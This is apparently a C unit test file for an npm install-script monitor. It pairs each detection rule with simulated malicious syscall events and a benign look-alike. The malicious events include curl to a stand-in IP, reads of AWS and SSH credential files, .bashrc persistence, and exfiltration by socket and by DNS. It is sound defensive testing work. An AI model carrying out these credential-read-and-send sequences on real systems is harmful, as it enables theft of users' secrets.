// SPDX-License-Identifier: GPL-2.0 OR BSD-3-Clause
/*
 * test_rules.c - one case per rule file of user/analyze/rules/: a stream
 * that makes the rule fire for the package "pkg", and a look-alike that
 * must not raise that rule at all.  Each stream is an npm install (pid
 * 100) whose package pkg runs a postinstall script (pid 101); records are
 * built raw and go through event_decode(), path folding included.
 */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include "unit.h"
#include "evbuild.h"
#include "analyze_int.h"
#include "analyze/analyzer.h"

#define PROJ "/work/proj"
#define NM PROJ "/node_modules"
#define PKG NM "/pkg"

static struct evb B;
static const char *const base_env[] = { "HOME=/root", "PATH=/usr/local/bin:/usr/bin:/bin", NULL };
static char *si_argv[] = { "npm", "ci", NULL };
static char *si_env[] = { "HOME=/root", "PATH=/usr/local/bin:/usr/bin:/bin", NULL };
static uint64_t si_drops;
static struct facts *F;                      /* the facts of the install analyze() runs */
static void (*pre_facts)(struct facts *f);  /* facts put before the defaults (first answer wins) */
static const char *extra_fact, *extra_text; /* one more file for analyze(), or NULL */

/* a DNS query for example.com */
static const uint8_t dns_query[] = { 0xab, 0xcd, 0x01, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
				     7, 'e', 'x', 'a', 'm', 'p', 'l', 'e', 3, 'c', 'o', 'm', 0, 0x00, 0x01, 0x00, 0x01 };

static void script(struct analyzer *an, uint32_t pid, const char *name, const char *folder, const char *cmd)
{
	char e1[128], e2[512];
	const char *env[] = { "npm_lifecycle_event=postinstall", e1, "npm_package_version=1.0.0", e2,
			      "HOME=/root", "PATH=/usr/bin:/bin", NULL };
	const char *argv[] = { "sh", "-c", cmd, NULL };

	snprintf(e1, sizeof(e1), "npm_package_name=%s", name);
	snprintf(e2, sizeof(e2), "npm_package_json=%s/package.json", folder);
	ev_fork(&B, an, 100, pid);
	ev_exec(&B, an, pid, "/bin/sh", argv, folder, env);
}

/* pkg's postinstall starts as pid 101 */
static void pkg_script(struct analyzer *an)
{
	script(an, 101, "pkg", PKG, "node install.js");
}

/* run: child pid of 101 execs exe with argv (NULL-terminated), then exits
 * unless keep. */
static void run(struct analyzer *an, uint32_t pid, const char *exe, const char *const *argv, uint32_t flags,
		bool keep)
{
	ev_fork(&B, an, 101, pid);
	ev_exec_ret(&B, an, pid, exe, argv, PKG, base_env, 0, flags);
	if (!keep)
		ev_exit(&B, an, pid);
}

static void put(struct facts *f, const char *path, const char *text)
{
	facts_put(f, path, 0, text, strlen(text));
}


/* ---- the cases: fire, then the look-alike ---- */

static void install_script_fire(struct analyzer *an) { pkg_script(an); }
/* the project's own prepare script is no dependency's */
static void install_script_alike(struct analyzer *an) { script(an, 101, "proj", PROJ, "husky"); }

static void unexpected_exec_fire(struct analyzer *an)
{
	const char *argv[] = { "curl", "-s", "http://203.0.113.5/x", NULL };

	pkg_script(an);
	run(an, 102, "/usr/bin/curl", argv, 0, false);
}

static void unexpected_exec_alike(struct analyzer *an)
{
	const char *argv[] = { "node", "install.js", NULL };

	pkg_script(an);
	run(an, 102, "/usr/bin/node", argv, 0, false);
}

static void network_egress_fire(struct analyzer *an)
{
	pkg_script(an);
	ev_sock(&B, an, PT_EV_CONNECT, 101, "203.0.113.5", 443, SOCK_STREAM, NULL, 0);
}

/* the configured registry (.npmrc) */
static void network_egress_alike(struct analyzer *an)
{
	pkg_script(an);
	ev_sock(&B, an, PT_EV_CONNECT, 101, "127.0.0.1", 4873, SOCK_STREAM, NULL, 0);
}

static void dns_query_fire(struct analyzer *an)
{
	pkg_script(an);
	ev_sock(&B, an, PT_EV_SEND, 101, "8.8.8.8", 53, SOCK_DGRAM, dns_query, sizeof(dns_query));
}

/* the same bytes to another UDP port */
static void dns_query_alike(struct analyzer *an)
{
	pkg_script(an);
	ev_sock(&B, an, PT_EV_SEND, 101, "8.8.8.8", 123, SOCK_DGRAM, dns_query, sizeof(dns_query));
}

static void credential_access_fire(struct analyzer *an)
{
	pkg_script(an);
	ev_open(&B, an, 101, "/root/.aws/credentials", O_RDONLY);
}

static void credential_access_alike(struct analyzer *an)
{
	pkg_script(an);
	ev_open(&B, an, 101, "/root/.aws-notes.txt", O_RDONLY);
}

static void write_outside_project_fire(struct analyzer *an)
{
	pkg_script(an);
	ev_open(&B, an, 101, "/root/notes.txt", O_WRONLY | O_CREAT);
}

/* npm's own log folder: where the baseline says scripts write */
static void write_outside_project_alike(struct analyzer *an)
{
	pkg_script(an);
	ev_open(&B, an, 101, "/root/.npm/_logs/debug.log", O_WRONLY | O_CREAT);
}

/* a rename out of its own folder through "..": folded before it is judged */
static void persistence_fire(struct analyzer *an)
{
	pkg_script(an);
	ev_open(&B, an, 101, PKG "/rc", O_WRONLY | O_CREAT);
	ev_path2(&B, an, PT_EV_RENAME, 101, PKG "/rc", PKG "/../../../../root/.bashrc");
}

/* ".." that stays in the project: node_modules/.bashrc is no shell's */
static void persistence_alike(struct analyzer *an)
{
	pkg_script(an);
	ev_open(&B, an, 101, PKG "/rc", O_WRONLY | O_CREAT);
	ev_path2(&B, an, PT_EV_RENAME, 101, PKG "/rc", PKG "/../.bashrc");
}

static void command_shadowing_fire(struct analyzer *an)
{
	pkg_script(an);
	ev_path2(&B, an, PT_EV_SYMLINK, 101, NM "/.bin/aws", "../pkg/cli.js");
}

/* a command name nobody else has */
static void command_shadowing_alike(struct analyzer *an)
{
	pkg_script(an);
	ev_path2(&B, an, PT_EV_SYMLINK, 101, NM "/.bin/pkg-cli", "../pkg/cli.js");
}

static void dropper_fire(struct analyzer *an)
{
	const char *argv[] = { "/tmp/stage2", NULL };

	pkg_script(an);
	ev_open(&B, an, 101, "/tmp/stage2", O_WRONLY | O_CREAT);
	run(an, 102, "/tmp/stage2", argv, 0, false);
}

/* its own binary, copied and run inside its own folder, no network */
static void dropper_alike(struct analyzer *an)
{
	const char *argv[] = { PKG "/bin/tool", "--version", NULL };

	pkg_script(an);
	ev_open(&B, an, 101, PKG "/bin/tool", O_WRONLY | O_CREAT);
	run(an, 102, PKG "/bin/tool", argv, 0, false);
}

static void fileless_exec_fire(struct analyzer *an)
{
	const char *argv[] = { "x", NULL };

	pkg_script(an);
	run(an, 102, "/memfd:x", argv, PT_F_MEMFD, false);
}

/* a file on disk that only has memfd in its name */
static void fileless_exec_alike(struct analyzer *an)
{
	const char *argv[] = { "x", NULL };

	pkg_script(an);
	run(an, 102, "/tmp/memfd:x", argv, 0, false);
}

static void lingering_process_fire(struct analyzer *an)
{
	const char *argv[] = { "sleep", "600", NULL };

	pkg_script(an);
	run(an, 102, "/usr/bin/sleep", argv, 0, true);
}

static void lingering_process_alike(struct analyzer *an)
{
	const char *argv[] = { "sleep", "1", NULL };

	pkg_script(an);
	run(an, 102, "/usr/bin/sleep", argv, 0, false);
}

static void tamper_fire(struct analyzer *an)
{
	pkg_script(an);
	ev_open(&B, an, 101, NM "/other/index.js", O_WRONLY | O_TRUNC);
}

/* its own folder */
static void tamper_alike(struct analyzer *an)
{
	pkg_script(an);
	ev_open(&B, an, 101, PKG "/index.js", O_WRONLY | O_TRUNC);
}

static void listen_socket_fire(struct analyzer *an)
{
	pkg_script(an);
	ev_sock(&B, an, PT_EV_LISTEN, 101, "0.0.0.0", 4444, SOCK_STREAM, NULL, 0);
}

/* bound, never listening */
static void listen_socket_alike(struct analyzer *an)
{
	pkg_script(an);
	ev_sock(&B, an, PT_EV_BIND, 101, "0.0.0.0", 4444, SOCK_STREAM, NULL, 0);
}

static void privilege_change_fire(struct analyzer *an)
{
	pkg_script(an);
	ev_chmod(&B, an, 101, PKG "/helper", 04755);
}

static void privilege_change_alike(struct analyzer *an)
{
	pkg_script(an);
	ev_chmod(&B, an, 101, PKG "/helper", 0755);
}

static void trace_incomplete_fire(struct analyzer *an)
{
	pkg_script(an);
	si_drops = 5;
}

static void trace_incomplete_alike(struct analyzer *an) { pkg_script(an); }

/* docker.sock, reached through a symlink, served from outside the tree */
static void ipc_outside_fire(struct analyzer *an)
{
	pkg_script(an);
	ev_unix(&B, an, 101, "/tmp/d.sock", 4242, "/run/docker.sock");
}

/* nscd, outside; and a socket of the install's own */
static void ipc_outside_alike(struct analyzer *an)
{
	pkg_script(an);
	ev_unix(&B, an, 101, "/var/run/nscd/socket", 4242, "/run/nscd/socket");
	ev_fork(&B, an, 101, 102);
	ev_unix(&B, an, 101, "/run/docker.sock", 102, "/run/docker.sock");
}

/* npm extracts node_modules/evil, whose package.json says "esbuild"; the
 * lockfile has it as a file: tarball */
static void identity_mismatch_fire(struct analyzer *an)
{
	put(F, PROJ "/package-lock.json",
	    "{\"packages\":{\"node_modules/evil\":{\"version\":\"0.28.2\",\"resolved\":\"file:evil-0.28.2.tgz\"}}}");
	put(F, NM "/evil/package.json", "{\"name\":\"esbuild\",\"version\":\"0.28.2\"}");
	ev_open(&B, an, 100, NM "/evil/package.json", O_WRONLY | O_CREAT);
	pkg_script(an);
}

/* an "npm:" alias: node_modules/my-react is react, by its registry URL */
static void identity_mismatch_alike(struct analyzer *an)
{
	put(F, PROJ "/package-lock.json",
	    "{\"packages\":{\"node_modules/my-react\":{\"name\":\"react\",\"version\":\"18.3.1\","
	    "\"resolved\":\"http://127.0.0.1:4873/react/-/react-18.3.1.tgz\"}}}");
	put(F, NM "/my-react/package.json", "{\"name\":\"react\",\"version\":\"18.3.1\"}");
	ev_open(&B, an, 100, NM "/my-react/package.json", O_WRONLY | O_CREAT);
	pkg_script(an);
}

#define COLLECTOR 99   /* the session info's collector pid */
#define MONITOR_MAP 77 /* one of pkgtrace's map ids in the session info */

/* call: a record of type by pid with its args, flags, result and path. */
static void call(struct analyzer *an, uint32_t type, uint32_t pid, uint64_t a0, uint64_t a1, uint64_t a2,
		 uint32_t flags, int ret, const char *path)
{
	evb_start(&B, type, pid, 1);
	B.ev.arg[0] = a0;
	B.ev.arg[1] = a1;
	B.ev.arg[2] = a2;
	B.ev.flags = flags;
	B.ev.ret = ret;
	if (path)
		evb_str(&B, path);
	evb_feed(&B, an);
}

/* a lookup in pkgtrace's tree map by fd */
static void monitor_tamper_fire(struct analyzer *an)
{
	pkg_script(an);
	call(an, PT_EV_BPF, 101, 1 /* BPF_MAP_LOOKUP_ELEM */, 5, MONITOR_MAP, 0, -2, NULL);
}

/* signals to its own child and a read of another process: not the monitor */
static void monitor_tamper_alike(struct analyzer *an)
{
	pkg_script(an);
	call(an, PT_EV_SIGNAL, 101, 102, 15, PT_SIG_KILL, 0, 0, NULL);
	call(an, PT_EV_SIGNAL, 101, 4321, 0, PT_SIG_KILL, 0, -3, NULL);
	call(an, PT_EV_PROCVM, 101, 102, 0, 0, 0, 16, NULL);
}

static void evasion_fire(struct analyzer *an)
{
	pkg_script(an);
	call(an, PT_EV_SYS, 101, PT_SYS_CHROOT, 0, 0, 0, 0, "/root/.aws");
}

/* unshare of no namespace, a long argv without padding under the bound */
static void evasion_alike(struct analyzer *an)
{
	char arg[600];
	const char *argv[] = { "cc", arg, NULL };

	memset(arg, 'x', sizeof(arg) - 1);
	arg[sizeof(arg) - 1] = '\0';
	for (size_t i = 0; i + 1 < sizeof(arg); i += 50)
		arg[i] = ' ';
	pkg_script(an);
	call(an, PT_EV_SYS, 101, PT_SYS_UNSHARE, 0x00000200 /* CLONE_FS */, 0, 0, 0, NULL);
	run(an, 102, "/usr/bin/cc", argv, 0, false);
}

struct rule_case {
	const char *rule;
	int sev;                      /* severity when it fires */
	const char *pkg;              /* the package it names, NULL for none */
	void (*fire)(struct analyzer *an);
	void (*alike)(struct analyzer *an);
};

static const struct rule_case cases[] = {
	{ "install-script", SEV_INFO, "pkg", install_script_fire, install_script_alike },
	{ "unexpected-exec", SEV_MEDIUM, "pkg", unexpected_exec_fire, unexpected_exec_alike },
	{ "network-egress", SEV_MEDIUM, "pkg", network_egress_fire, network_egress_alike },
	{ "dns-query", SEV_HIGH, "pkg", dns_query_fire, dns_query_alike },
	{ "credential-access", SEV_HIGH, "pkg", credential_access_fire, credential_access_alike },
	{ "write-outside-project", SEV_MEDIUM, "pkg", write_outside_project_fire, write_outside_project_alike },
	{ "persistence", SEV_HIGH, "pkg", persistence_fire, persistence_alike },
	{ "command-shadowing", SEV_HIGH, "pkg", command_shadowing_fire, command_shadowing_alike },
	{ "dropper", SEV_HIGH, "pkg", dropper_fire, dropper_alike },
	{ "fileless-exec", SEV_CRITICAL, "pkg", fileless_exec_fire, fileless_exec_alike },
	{ "lingering-process", SEV_HIGH, "pkg", lingering_process_fire, lingering_process_alike },
	{ "tamper", SEV_HIGH, "pkg", tamper_fire, tamper_alike },
	{ "listen-socket", SEV_MEDIUM, "pkg", listen_socket_fire, listen_socket_alike },
	{ "privilege-change", SEV_HIGH, "pkg", privilege_change_fire, privilege_change_alike },
	{ "trace-incomplete", SEV_HIGH, NULL, trace_incomplete_fire, trace_incomplete_alike },
	{ "ipc-outside", SEV_HIGH, "pkg", ipc_outside_fire, ipc_outside_alike },
	{ "identity-mismatch", SEV_HIGH, "evil", identity_mismatch_fire, identity_mismatch_alike },
	{ "monitor-tamper", SEV_CRITICAL, "pkg", monitor_tamper_fire, monitor_tamper_alike },
	{ "evasion", SEV_HIGH, "pkg", evasion_fire, evasion_alike },
};

/* an install: the traced command, its root process's first events and
 * the files it leaves, and the process whose exit ends it */
struct install {
	char **argv;
	int argc;
	uint32_t root, last;
	void (*prologue)(struct analyzer *an, struct facts *f);
};

/* analyze_install: the install around body, its report. */
static struct report *analyze_install(const struct install *in, void (*body)(struct analyzer *))
{
	char err[256];
	struct baseline *bl = baseline_load(NULL, err, sizeof(err));
	struct session_info si = {
		.argc = in->argc, .argv = in->argv, .cwd = PROJ, .envc = 2, .env = si_env,
		.hostname = "host", .kernel = "6.18", .start_ns = 1000, .end_ns = 5000000000ull,
		.root_pid = in->root, .exit_status = 0, .collector_pid = COLLECTOR,
		.nmonitor_maps = 1, .monitor_maps = { MONITOR_MAP },
	};
	struct analyzer *an = bl ? analyzer_new(bl, &si) : NULL;
	struct facts *f = facts_new(0);
	struct report *r = NULL;

	F = f;
	B.clock = 0;
	si_drops = 0;
	CHECK(an != NULL);
	if (an && f) {
		if (pre_facts)
			pre_facts(f);
		if (extra_fact)
			put(f, extra_fact, extra_text);
		put(f, "/etc/resolv.conf", "nameserver 10.0.0.53\n");
		put(f, "pkgtrace:credential-files", "2049 77 aws /root/.aws/credentials\n"
		    "2049 78 ssh-key /root/.ssh/id_rsa\n");
		analyzer_set_facts(an, f);
		ev_root(&B, an, in->root);
		in->prologue(an, f);
		body(an);
		ev_exit(&B, an, in->last);
		si.drops = si_drops;
		r = analyzer_finish(an, &si, f);
	}
	analyzer_free(an);
	baseline_free(bl);
	facts_free(f);
	CHECK(r != NULL);
	CHECK_INT(B.bad, 0);
	return r;
}

/* `npm ci` (pid 100) in PROJ, which installs pkg and other */
static void npm_prologue(struct analyzer *an, struct facts *f)
{
	const char *argv[] = { "node", "/usr/bin/npm", "ci", NULL };

	put(f, PROJ "/package.json", "{\"name\":\"proj\",\"version\":\"1.0.0\"}");
	put(f, PROJ "/.npmrc", "registry=http://127.0.0.1:4873/\n");
	put(f, PKG "/package.json", "{\"name\":\"pkg\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"node install.js\"}}");
	put(f, NM "/other/package.json", "{\"name\":\"other\",\"version\":\"2.0.0\"}");
	ev_exec(&B, an, 100, "/usr/bin/node", argv, PROJ, base_env);
	ev_sock(&B, an, PT_EV_CONNECT, 100, "127.0.0.1", 4873, SOCK_STREAM, NULL, 0);
	ev_open(&B, an, 100, PKG "/package.json", O_WRONLY | O_CREAT);
	ev_open(&B, an, 100, NM "/other/package.json", O_WRONLY | O_CREAT);
}

static struct report *analyze(void (*body)(struct analyzer *))
{
	static const struct install npm = { si_argv, 2, 100, 101, npm_prologue };

	return analyze_install(&npm, body);
}

/* find: the finding of rule (for pkg, or with no package), or NULL. */
static const struct finding *find(const struct report *r, const char *rule, const char *pkg)
{
	for (size_t i = 0; r && i < r->nfindings; i++) {
		const struct finding *f = &r->findings[i];
		const char *name = f->owner >= 0 ? r->owners[f->owner]->name : NULL;

		if (strcmp(rule_info[f->rule].id, rule))
			continue;
		if (!pkg || (name && !strcmp(name, pkg)))
			return f;
	}
	return NULL;
}

static void dump(const struct report *r)
{
	for (size_t i = 0; r && i < r->nfindings; i++)
		printf("#     %s %s: %s\n", severity_name(r->findings[i].sev), rule_info[r->findings[i].rule].id,
		       r->findings[i].summary);
}

/* every rule id the analysis gives has its case, and every case fires and
 * stays quiet; policy-expired, the last, comes from the policy file after
 * the analysis (test_policy) */
static void test_each_rule(void)
{
	CHECK_INT(R_POLICY_EXPIRED, R_NRULES - 1);
	CHECK_INT(sizeof(cases) / sizeof(cases[0]), R_POLICY_EXPIRED);
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		const struct rule_case *c = &cases[i];
		struct report *fire = analyze(c->fire), *alike = analyze(c->alike);
		const struct finding *f = find(fire, c->rule, c->pkg);
		int before = unit_failed_checks;

		CHECK_STR(rule_info[i].id, c->rule);
		CHECK(f && f->sev == c->sev && f->nev >= 1);
		CHECK(!find(alike, c->rule, NULL));
		if (unit_failed_checks != before) {
			printf("# %s fire:\n", c->rule);
			dump(fire);
			printf("# %s look-alike:\n", c->rule);
			dump(alike);
		}
		report_free(fire);
		report_free(alike);
	}
}

static void bashrc_direct(struct analyzer *an)
{
	pkg_script(an);
	ev_open(&B, an, 101, PKG "/rc", O_WRONLY | O_CREAT);
	ev_path2(&B, an, PT_EV_RENAME, 101, PKG "/rc", "/root/.bashrc");
}

/* The path is folded before the rules judge it: a rename to
 * <own folder>/../../../../root/.bashrc is the finding a rename to
 * ~/.bashrc is, with the same evidence. */
static void test_persistence_through_dotdot(void)
{
	struct report *dotdot = analyze(persistence_fire), *direct = analyze(bashrc_direct);
	const struct finding *a = find(dotdot, "persistence", "pkg"), *b = find(direct, "persistence", "pkg");

	CHECK(a && b);
	if (a && b) {
		CHECK_INT(a->sev, b->sev);
		CHECK_STR(a->summary, b->summary);
		CHECK_STR(a->ev[0].path, "/root/.bashrc");
		CHECK_STR(a->ev[0].path, b->ev[0].path);
		CHECK_STR(a->ev[0].event, "rename");
	}
	report_free(dotdot);
	report_free(direct);
}

/* ---- other names for a credential, things outside the tree ---- */

#define DEV 2049u

static void cred_hardlink_open(struct analyzer *an)
{
	pkg_script(an);
	ev_open_id(&B, an, 101, "/tmp/x/creds", O_RDONLY, DEV, 77, 0);
}

/* another file with the same inode number on another device */
static void cred_hardlink_alike(struct analyzer *an)
{
	pkg_script(an);
	ev_open_id(&B, an, 101, "/tmp/x/creds", O_RDONLY, DEV + 1, 77, 0);
	ev_open_id(&B, an, 101, "/tmp/x/other", O_RDONLY, DEV, 79, 0);
}

/* a chroot into ~/.aws: the kernel's path stops at the new root */
static void cred_chroot_open(struct analyzer *an)
{
	pkg_script(an);
	ev_open_id(&B, an, 101, "/credentials", O_RDWR, DEV, 77, 0);
}

static void cred_link(struct analyzer *an)
{
	pkg_script(an);
	ev_path2_flags(&B, an, PT_EV_LINK, 101, "/root/.aws/credentials", "/tmp/l", PT_F_DIR_AS_GIVEN);
}

/* linked from a name that does not look like it: known by what the new
 * name is (the collector's answer) */
static void cred_link_by_id(struct analyzer *an)
{
	put(F, "pkgtrace:id:101:/tmp/l2", "2049 78");
	pkg_script(an);
	ev_path2_flags(&B, an, PT_EV_LINK, 101, "/tmp/l1", "/tmp/l2", PT_F_DIR_AS_GIVEN);
}

static void cred_rename(struct analyzer *an)
{
	pkg_script(an);
	ev_path2_flags(&B, an, PT_EV_RENAME, 101, "/root/.ssh/id_rsa", "/tmp/k", PT_F_DIR_AS_GIVEN);
}

/* a symlink to a secret reads nothing; its later open is of the real
 * file (the kernel resolves it) */
static void cred_link_alike(struct analyzer *an)
{
	put(F, "pkgtrace:id:101:/tmp/l2", "2049 90");
	pkg_script(an);
	ev_path2_flags(&B, an, PT_EV_SYMLINK, 101, "/tmp/s", "/root/.aws/credentials", PT_F_DIR_AS_GIVEN);
	ev_path2_flags(&B, an, PT_EV_LINK, 101, "/tmp/l1", "/tmp/l2", PT_F_DIR_AS_GIVEN);
	ev_path2_flags(&B, an, PT_EV_LINK, 101, PKG "/a", PKG "/b", PT_F_DIR_AS_GIVEN);
}

static void test_credential_other_names(void)
{
	static const struct {
		void (*body)(struct analyzer *);
		const char *key, *summary_has, *evidence;
	} fire[] = {
		{ cred_hardlink_open, "aws", "(the file of /root/.aws/credentials)", "/tmp/x/creds" },
		{ cred_chroot_open, "aws", "/credentials (the file of /root/.aws/credentials)", "/credentials" },
		{ cred_link, "aws", "linked aws secrets: /root/.aws/credentials", "/root/.aws/credentials" },
		{ cred_link_by_id, "ssh-key", "linked ssh-key secrets: /tmp/l1 (the file of /root/.ssh/id_rsa)", "/tmp/l1" },
		{ cred_rename, "ssh-key", "moved ssh-key secrets: /root/.ssh/id_rsa", "/root/.ssh/id_rsa" },
	};

	for (size_t i = 0; i < sizeof(fire) / sizeof(fire[0]); i++) {
		struct report *r = analyze(fire[i].body);
		const struct finding *f = find(r, "credential-access", "pkg");

		CHECK(f && f->sev == SEV_HIGH);
		if (f) {
			CHECK_STR(f->key, fire[i].key);
			CHECK(strstr(f->summary, fire[i].summary_has) != NULL);
			CHECK_STR(f->ev[0].path, fire[i].evidence);
		} else {
			dump(r);
		}
		report_free(r);
	}
	{
		struct report *r = analyze(cred_hardlink_alike), *r2 = analyze(cred_link_alike);

		CHECK(!find(r, "credential-access", NULL));
		CHECK(!find(r2, "credential-access", NULL));
		report_free(r);
		report_free(r2);
	}
}

/* rename into <tmp>/link-to-home/.profile, the directory a symlink to
 * /root: the collector's answer puts it in ~/.profile */
static void profile_via_symlink(struct analyzer *an)
{
	put(F, "pkgtrace:realdir:/tmp/link-to-home", "/root");
	pkg_script(an);
	ev_open(&B, an, 101, PKG "/rc", O_WRONLY | O_CREAT);
	ev_path2_flags(&B, an, PT_EV_RENAME, 101, PKG "/rc", "/tmp/link-to-home/.profile", PT_F_DIR_AS_GIVEN);
}

/* the same events with no answer (an old trace): the path as given */
static void profile_unresolved(struct analyzer *an)
{
	pkg_script(an);
	ev_open(&B, an, 101, PKG "/rc", O_WRONLY | O_CREAT);
	ev_path2_flags(&B, an, PT_EV_RENAME, 101, PKG "/rc", "/tmp/link-to-home/.profile", PT_F_DIR_AS_GIVEN);
}

/* "..", after <tmp>/link-to-ssh, a symlink to /root/.ssh: the collector
 * resolves the directory as given, so it is /root (lexically: /tmp) */
static void profile_via_dotdot(struct analyzer *an)
{
	put(F, "pkgtrace:realdir:/tmp/link-to-ssh/..", "/root");
	pkg_script(an);
	ev_open(&B, an, 101, PKG "/rc", O_WRONLY | O_CREAT);
	ev_path2_flags(&B, an, PT_EV_RENAME, 101, PKG "/rc", "/tmp/link-to-ssh/../.profile",
		       PT_F_DIR_AS_GIVEN);
}

/* no answer: ".." is folded lexically, never judged as given */
static void profile_dotdot_unresolved(struct analyzer *an)
{
	pkg_script(an);
	ev_open(&B, an, 101, PKG "/rc", O_WRONLY | O_CREAT);
	ev_path2_flags(&B, an, PT_EV_RENAME, 101, PKG "/rc", "/tmp/x/../../root/./.profile",
		       PT_F_DIR_AS_GIVEN);
}

/* after a chroot the question is the process's own */
static void profile_chrooted(struct analyzer *an)
{
	put(F, "pkgtrace:realdir:/tmp/link-to-home", "/tmp/link-to-home");
	put(F, "pkgtrace:realdir:101:/tmp/link-to-home", "/root");
	pkg_script(an);
	evb_start(&B, PT_EV_SYS, 101, 1);
	B.ev.arg[0] = PT_SYS_CHROOT;
	evb_str(&B, "/");
	evb_feed(&B, an);
	ev_path2_flags(&B, an, PT_EV_SYMLINK, 101, "/tmp/link-to-home/.bashrc", "/tmp/payload",
		       PT_F_DIR_AS_GIVEN);
}

static void test_path_calls_resolved(void)
{
	struct report *r = analyze(profile_via_symlink), *plain = analyze(profile_unresolved);
	struct report *ch = analyze(profile_chrooted);
	const struct finding *f = find(r, "persistence", "pkg"), *c = find(ch, "persistence", "pkg");

	CHECK(f && f->sev == SEV_HIGH);
	if (f) {
		CHECK_STR(f->ev[0].path, "/root/.profile");
		CHECK_STR(f->ev[0].event, "rename");
	}
	CHECK(!find(plain, "persistence", NULL));
	CHECK(c && !strcmp(c->ev[0].path, "/root/.bashrc"));
	report_free(r);
	report_free(plain);
	report_free(ch);

	r = analyze(profile_via_dotdot);
	plain = analyze(profile_dotdot_unresolved);
	f = find(r, "persistence", "pkg");
	CHECK(f && !strcmp(f->ev[0].path, "/root/.profile"));
	f = find(plain, "persistence", "pkg");
	CHECK(f && !strcmp(f->ev[0].path, "/root/.profile"));
	report_free(r);
	report_free(plain);
}

static void procvm_outside(struct analyzer *an)
{
	pkg_script(an);
	ev_simple(&B, an, PT_EV_PROCVM, 101, 4242, 0);
}

static void procvm_inside(struct analyzer *an)
{
	pkg_script(an);
	ev_fork(&B, an, 101, 102);
	ev_simple(&B, an, PT_EV_PROCVM, 101, 102, 0);
	ev_simple(&B, an, PT_EV_PROCVM, 101, 101, 1);
}

static void procvm_write_outside(struct analyzer *an)
{
	pkg_script(an);
	ev_simple(&B, an, PT_EV_PROCVM, 101, 4242, 1);
}

static void test_process_memory(void)
{
	struct report *r = analyze(procvm_outside), *in = analyze(procvm_inside);
	struct report *w = analyze(procvm_write_outside);
	const struct finding *f = find(r, "credential-access", "pkg"), *g = find(w, "ipc-outside", "pkg");

	CHECK(f && f->sev == SEV_HIGH && !strcmp(f->key, "process-memory"));
	CHECK(!find(r, "privilege-change", NULL));
	CHECK(!find(in, "credential-access", NULL) && !find(in, "ipc-outside", NULL));
	CHECK(g && g->sev == SEV_HIGH);
	CHECK(!find(w, "credential-access", NULL));
	report_free(r);
	report_free(in);
	report_free(w);
}

static void unix_peers(struct analyzer *an)
{
	pkg_script(an);
	ev_unix(&B, an, 101, "/var/run/dbus/system_bus_socket", 1, "/run/dbus/system_bus_socket");
	ev_unix(&B, an, 101, "/run/systemd/private", 1, "/run/systemd/private");
	ev_unix(&B, an, 101, "/run/user/0/bus", 700, "/run/user/0/bus");
	ev_unix(&B, an, 101, "/tmp/app.sock", 700, "/tmp/app.sock");
	ev_unix(&B, an, 101, "@/containerd-shim/x.sock", 700, NULL);
	ev_unix(&B, an, 101, "/run/systemd/userdb/io.systemd.DynamicUser", 1,
		"/run/systemd/userdb/io.systemd.DynamicUser");
}

static int sev_of(const struct report *r, const char *key)
{
	for (size_t i = 0; r && i < r->nfindings; i++)
		if (r->findings[i].rule == R_IPC_OUTSIDE && !strcmp(r->findings[i].key, key))
			return r->findings[i].sev;
	return -1;
}

static void test_unix_peers(void)
{
	struct report *r = analyze(unix_peers);

	CHECK_INT(sev_of(r, "dbus-system /run/dbus/system_bus_socket"), SEV_HIGH);
	CHECK_INT(sev_of(r, "init /run/systemd/private"), SEV_HIGH);
	CHECK_INT(sev_of(r, "dbus-session /run/user/0/bus"), SEV_MEDIUM);
	CHECK_INT(sev_of(r, "unix-peer /tmp/app.sock"), SEV_LOW);
	CHECK_INT(sev_of(r, "unix-peer @/containerd-shim/x.sock"), SEV_LOW);
	CHECK_INT(sev_of(r, "unix-peer /run/systemd/userdb/io.systemd.DynamicUser"), -1);
	report_free(r);
}

static void fifo_outside(struct analyzer *an)
{
	put(F, "pkgtrace:fifo:101:/tmp/ctl", "101 555");
	pkg_script(an);
	ev_open_id(&B, an, 101, "/tmp/ctl", O_WRONLY, DEV, 5, PT_F_FIFO);
}

/* held by the install alone (make's jobserver FIFO), or opened to read */
static void fifo_inside(struct analyzer *an)
{
	put(F, "pkgtrace:fifo:101:/tmp/GMfifo1", "100 101");
	put(F, "pkgtrace:fifo:101:/tmp/ctl", "101 555");
	pkg_script(an);
	ev_open_id(&B, an, 101, "/tmp/GMfifo1", O_RDWR, DEV, 6, PT_F_FIFO);
	ev_open_id(&B, an, 101, "/tmp/ctl", O_RDONLY, DEV, 5, PT_F_FIFO);
}

static void test_fifo(void)
{
	struct report *r = analyze(fifo_outside), *in = analyze(fifo_inside);
	const struct finding *f = find(r, "ipc-outside", "pkg");

	CHECK(f && f->sev == SEV_MEDIUM && strstr(f->summary, "pid 555"));
	CHECK(!find(in, "ipc-outside", NULL));
	report_free(r);
	report_free(in);
}

/* ---- correlation: a package that read secrets and then talks ---- */

/* a DNS query for <42 hex chars>.x.example */
static const uint8_t dns_exfil[] = { 0xab, 0xcd, 0x01, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
	42, '6','1','7','7','7','3','5','f','6','b','6','5','7','9','3','d','4','1','4','b','4','9','4','1',
	'6','3','6','f','7','2','7','0','7','5','7','3','6','2','6','1','6','9',
	1, 'x', 7, 'e', 'x', 'a', 'm', 'p', 'l', 'e', 0, 0x00, 0x01, 0x00, 0x01 };

/* read in the script, sent from a detached grandchild: the same owner */
static void exfil_connect(struct analyzer *an)
{
	pkg_script(an);
	ev_open(&B, an, 101, "/root/.aws/credentials", O_RDONLY);
	ev_fork(&B, an, 101, 102);
	ev_fork(&B, an, 102, 103);
	ev_exit(&B, an, 102);
	ev_sock(&B, an, PT_EV_CONNECT, 103, "203.0.113.5", 443, SOCK_STREAM, NULL, 0);
	ev_exit(&B, an, 103);
}

static void exfil_datagram(struct analyzer *an)
{
	pkg_script(an);
	ev_open(&B, an, 101, "/proc/555/environ", O_RDONLY);
	ev_sock(&B, an, PT_EV_SEND, 101, "203.0.113.5", 9999, SOCK_DGRAM, NULL, 0);
}

static void exfil_dns(struct analyzer *an)
{
	pkg_script(an);
	ev_open(&B, an, 101, "/root/.npmrc", O_RDONLY);
